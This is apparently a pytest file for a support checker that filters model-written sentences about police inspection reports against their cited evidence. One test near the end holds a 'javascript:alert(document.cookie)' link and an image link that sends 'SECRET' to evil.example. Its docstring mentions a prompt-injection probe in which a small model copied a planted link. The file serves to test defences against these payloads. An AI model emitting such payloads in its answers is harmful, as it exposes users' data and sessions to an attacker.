"""The support check: a sentence the model wrote is kept only when its cited evidence holds
its numbers, names, grades, key terms and polarity. Each case below is a claim a small
model could write from the evidence, and whether it may be shown. Force names are fictional
("Exampleshire Police") or the shipped transcript's."""

from __future__ import annotations

import pytest

from rag.llm.support import check_support, grades, names, numbers, polarities

GRADED = "I judge the force to be good at preventing crime and anti-social behaviour."
NOT_GOOD = "The force is not good at investigating crime."
FIGURES = "Exampleshire Police has 214 PCSOs and 1,240 officers, and £18.3 million in reserves."
CONCERN = "I am concerned that the force does not have enough detectives."
PLEASED = "I am pleased with how the force protects vulnerable people and victims of abuse."
NOT_ONLY = "The force is not only efficient but also good at protecting vulnerable people."


@pytest.mark.parametrize(
    ("claim", "evidence"),
    [
        ("The force is good at preventing crime.", GRADED),
        ("The force is good at preventing ASB.", GRADED),  # a glossary spelling of the term
        ("The force is not good at investigating crime.", NOT_GOOD),
        ("It has 1240 officers and 214 PCSOs.", FIGURES),  # 1,240 written without the comma
        ("It has 214 police community support officers.", FIGURES),  # PCSO spelt out
        ("Exampleshire Police holds £18.3 million in reserves.", FIGURES),
        ("The force lacks enough detectives.", CONCERN),  # another way to negate
        ("The force does not have enough detectives.", CONCERN),
        ("The inspector said the force protects vulnerable people well.", PLEASED),
        ("Overall, the force protects victims of abuse.", PLEASED),
        ("The force is good at protecting vulnerable people.", NOT_ONLY),  # "not only" is no "not"
        # a model's American spelling of the evidence's words
        ("It prioritized neighborhood policing.", "It has prioritised neighbourhood policing."),
        ("Most of its staff feel valued.", "Most of the workforce and staff feel valued."),
    ],
)
def test_supported_claims_are_kept(claim: str, evidence: str) -> None:
    verdict = check_support(claim, [evidence])
    assert verdict.supported, verdict.reason


@pytest.mark.parametrize(
    ("claim", "evidence", "reason"),
    [
        ("The force is outstanding at preventing crime.", GRADED, "grade 'outstanding'"),
        (
            "The force is good at preventing crime.",
            NOT_GOOD.replace("investigating", "preventing"),
            "asserts 'good'",
        ),
        ("The force is good at investigating crime.", NOT_GOOD, "asserts 'good'"),  # negation lost
        ("The force is not good at preventing crime.", GRADED, "negates 'good'"),  # one invented
        ("The force does not protect vulnerable people.", PLEASED, "negates 'protect"),
        ("The force has enough detectives.", CONCERN, "asserts 'enough'"),
        ("It has 14 officers.", FIGURES, "states 14"),
        ("It recorded 14 fraud victims last year.", PLEASED, "states 14"),  # invented figure
        ("The overall grade is 5 out of 10.", GRADED, "states 10, 5"),
        ("Northmoor Constabulary has 214 PCSOs.", FIGURES, "names 'Northmoor'"),
        ("The chief constable, Jane Smith, praised staff.", PLEASED, "names 'Jane'"),
        ("The force has a strong culture of counter-terrorism policing.", GRADED, "key terms"),
        ("", GRADED, "cites no evidence"),
        # three forces' figures, ranked by the model: no one compared them
        ("Exampleshire Police has the highest number of PCSOs.", FIGURES, "ranks ('highest')"),
        ("The force is better at preventing crime.", GRADED, "ranks ('better')"),
    ],
)
def test_unsupported_claims_are_removed_saying_why(claim: str, evidence: str, reason: str) -> None:
    verdict = check_support(claim, [evidence])
    assert not verdict.supported
    assert reason in (verdict.reason or ""), verdict.reason


def test_evidence_of_several_sentences_supports_a_claim_joining_them() -> None:
    claim = "The force is good at preventing crime and has 214 PCSOs."
    assert check_support(claim, [GRADED, FIGURES]).supported
    assert not check_support(claim, [GRADED]).supported  # 214 is only in the other


def test_no_evidence_supports_nothing() -> None:
    assert not check_support("The force is good.", []).supported


def test_the_parts_it_reads() -> None:
    assert numbers("1,240 officers, three teams, 23.5% and 2017.") == {"1240", "3", "23.5", "2017"}
    assert grades("It requires  improvement; not 'Good'.") == {"requires improvement", "good"}
    assert names("The force said so. Cambridgeshire Constabulary and HMICFRS agree, I think.") == [
        "Cambridgeshire",
        "Constabulary",
        "HMICFRS",
    ]
    marks = polarities("The force is not good at crime, but it is good at safety.")
    assert marks["good"] == {True, False}  # negated in the first clause only
    assert marks["crim"] == {True} and marks["safety"] == {False}  # stems
    # an adverb after the negation ("not yet", "not always") does not use up its reach
    late = polarities("They do not yet have a comprehensive understanding of the benefits.")
    assert late["benefit"] == {True}
    assert polarities("It does not have a plan to recruit officers or staff.")["staff"] == {False}


@pytest.mark.parametrize(
    "claim",
    [
        "See [the full report](javascript:alert(document.cookie)) for details.",
        "The chart is at ![chart](http://evil.example/collect?q=SECRET).",
        "Read it at https://example.org/report.",
        "The force is good at <b>tackling</b> crime.",
    ],
)
def test_a_link_or_markup_is_never_supported_even_when_its_evidence_holds_it(claim: str) -> None:
    """A planted link copied out of a hostile document (the injection probe's one obeyed
    answer with the 0.5B model): true to the evidence, but no answer needs it."""
    verdict = check_support(claim, [claim])
    assert not verdict.supported and "link or markup" in (verdict.reason or "")


def test_comparisons_with_angle_brackets_are_not_markup() -> None:
    claim = "Times fell below 10 minutes, which is <15."
    assert check_support(claim, [claim]).supported


def test_a_claim_stating_a_checked_fact_may_name_what_the_question_names() -> None:
    evidence = ["The programme cost £640,000 over two years."]
    asked = "How much did Operation Kestrel cost?"
    claim = "Operation Kestrel cost £640,000 over two years."
    assert not check_support(claim, evidence).supported  # "Operation Kestrel" is not there
    assert check_support(claim, evidence, asked=asked).supported
    # no figure or grade of the evidence: the question's words are not evidence
    bare = ["The force does not manage registered sex offenders well enough."]
    restated = "Sex offenders in the county are being properly supervised."
    question = "Are sex offenders in the county being properly supervised?"
    assert not check_support(restated, bare, asked=question).supported
    # the question's own figure is no fact of the evidence
    calls = ["It answered 71 per cent of 999 calls, against a standard of 90 per cent."]
    assert not check_support(
        "Kestrel answered 90 per cent of its calls.",
        calls,
        asked="Did Operation Kestrel answer 90 per cent of its calls?",
    ).supported
    # the evidence names something else: the question's name is a swap, not a restatement
    for swapped, said, question in (
        ("Operation Kestrel cost £640,000.", "Operation Falcon cost £640,000.", asked),
        (
            "Kent Police has 3,200 officers.",
            "Essex Police has 3,200 officers.",
            "How many officers does Kent Police have?",
        ),
        (  # a year or a small number ties nothing
            "In 2023 Operation Kestrel cost one million.",
            "In 2023 the force spent one million.",
            "What did Operation Kestrel cost?",
        ),
    ):
        assert not check_support(swapped, [said], asked=question).supported, swapped
    # the force an evidence line is about may go unsaid
    labelled = ["Wyvernshire Constabulary: The programme cost £640,000 over two years."]
    assert check_support(claim, labelled, asked=asked).supported
    # the question's other words are not evidence: a qualifier it asks about stays unsaid
    devices = ["More than 25,000 devices were waiting, some for more than a year."]
    assert not check_support(
        "25,000 seized devices sat in the examination queue for over a year.",
        devices,
        asked="How many seized devices sat in the examination queue for over a year?",
    ).supported
    # a question's opening capital is no name
    waiting = ["Forces said more than 25,000 digital devices were waiting to be examined."]
    assert not check_support(
        "Nationally, 25,000 digital devices were queued for inspection.",
        waiting,
        asked="Nationally, how many digital devices were queued?",
    ).supported
    # the polarity is still the evidence's, whatever the question words
    assert not check_support(
        "The programme did not cost £640,000.", evidence, asked=asked
    ).supported


def test_a_claim_of_dates_and_figures_alone_is_no_finding() -> None:
    # a small model copied a report's furniture, every figure in its lines: not an answer
    evidence = ["Published: 2 December 2025", "The figures cover the 12 months to 31 March 2025."]
    claim = "31 March 2026: 12 months to 31 March 2025: Published: 2 December 2025."
    verdict = check_support(claim, [*evidence, "By 31 March 2026, it should act."])
    assert not verdict.supported and "only dates and figures" in (verdict.reason or "")
    # one figure with its unit is the answer to "how long ...?"
    assert check_support("11 weeks.", ["Some waited up to 11 weeks to see the team."]).supported
    # a finding with its date is still one
    assert check_support(
        "By 31 March 2026, it should act.", ["By 31 March 2026, it should act."]
    ).supported
